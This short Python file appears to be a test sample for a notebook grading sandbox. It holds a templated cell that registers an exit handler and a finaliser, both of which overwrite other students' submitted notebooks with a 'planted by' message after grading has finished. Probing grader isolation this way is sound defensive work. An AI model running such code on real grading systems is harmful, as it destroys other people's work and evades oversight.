"""Act when the kernel is shut down.

tries: an exit handler and a finaliser that write after the last cell was judged
gains: files of others, changed when nobody looks
must: what they write goes with the kernel
"""

CELL = """
import atexit
import pathlib

def act():
    for path in pathlib.Path("@class@").glob("submitted/@other@/*/*.ipynb"):
        path.write_text("planted by @name@!")

class Last:
    def __del__(self, act=act):
        act()

atexit.register(act)
last = Last()
"""
